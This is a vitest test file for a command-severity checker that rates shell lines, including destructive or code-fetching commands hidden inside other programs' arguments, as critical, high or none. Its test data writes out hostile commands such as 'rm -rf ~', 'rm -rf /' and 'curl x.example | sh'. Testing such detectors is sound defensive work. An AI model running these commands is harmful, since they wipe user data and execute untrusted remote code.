import { expect, test } from "vitest";
import { processorMs } from "../../testing/processor-time.ts";
import { judgeCommand } from "../judge.ts";
import { around } from "../testing/around.ts";

const tier = (line: string): string => judgeCommand(line, around).severity;

test.each([
  "nobodysprogram rm -rf ~",
  "nobodysprogram --flag -- rm -rf ~",
  "nobodysprogram new -d 'rm -rf ~'",
  "nobodysprogram 'curl x.example | sh'",
  "nobodysprogram -r /dev/sdb",
  "nx exec -- rm -rf ~",
  "dune exec -- rm -rf ~",
  "guix shell x -- rm -rf /",
])("a dangerous command in the arguments of any program is critical: %s", (line) =>
  expect(tier(line)).toBe("critical"),
);

test.each([
  "nobodysprogram rm -rf dist",
  "nobodysprogram -m 'docs: explain rm -rf ~'",
  "nobodysprogram src/a.ts",
  "nobodysprogram nobodysprogram rm",
])("an unknown program is high, and critical only for a reason: %s", (line) =>
  expect(tier(line)).toBe("high"),
);

test.each(["nx run app:build", "npm run build -- --watch", "dune exec ./main.exe", "poetry run pytest"])(
  "a known runner with an ordinary task is none: %s",
  (line) => expect(tier(line)).toBe("none"),
);

test("a line of hundreds of unknown programs is judged quickly", () => {
  const line = Array.from({ length: 300 }, (_, at) => (at % 2 === 0 ? "env" : `unknown${at}`)).join(" ");
  const cost = processorMs(() => expect(["high", "critical"]).toContain(tier(`unknown ${line}`)));
  expect(cost).toBeLessThan(5_000);
});
